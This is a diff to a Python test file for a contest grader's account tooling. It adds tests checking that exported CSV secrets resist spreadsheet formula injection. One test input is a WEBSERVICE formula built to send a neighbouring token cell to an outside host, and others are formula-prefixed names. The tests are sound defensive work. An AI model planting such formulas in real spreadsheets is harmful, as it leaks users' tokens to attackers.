@@ -3,13 +3,14 @@
 from __future__ import annotations
 
 import csv
+import io
 from collections.abc import Sequence
 from pathlib import Path
 
 import pytest
 
-from grader.contest.accounts import Issued, add_people, renew, revoke, write_secrets
-from grader.contest.auth import hash_token
+from grader.contest.accounts import Issued, add_people, renew, revoke, secrets_to_csv, write_secrets
+from grader.contest.auth import hash_token, new_token
 from grader.contest.naming import plain_name
 from grader.contest.roster import Person, parse_roster, read_roster
 from grader.core.errors import UsageError, WorkspaceError
@@ -213,3 +214,15 @@ def test_secrets_are_written_for_the_owner_alone_and_never_over_others(tmp_path:
     assert path.read_bytes() == before
     with pytest.raises(WorkspaceError, match="can't be written"):
         write_secrets(tmp_path / "none" / "x.csv", [], "https://x.org")
+
+
+@pytest.mark.parametrize("name", ['=WEBSERVICE("http://x/"&D2)', "+1", "Ada;=D2", "＝D2"])
+def test_no_name_is_a_formula_beside_tokens(name: str) -> None:
+    text = secrets_to_csv([Issued(name, "+ada@example.org", "l1nk", "t0ken")], "https://x.org")
+    (_, row) = csv.reader(io.StringIO(text))
+    assert row[1:] == ["'+ada@example.org", "https://x.org/sign-in/l1nk", "t0ken"]
+    assert not any(part.lstrip()[:1] in "=+-@＝" for cell in row for part in cell.split(";"))
+
+
+def test_a_new_token_is_no_formula_either() -> None:
+    assert all(new_token()[0].isalnum() for _ in range(500))
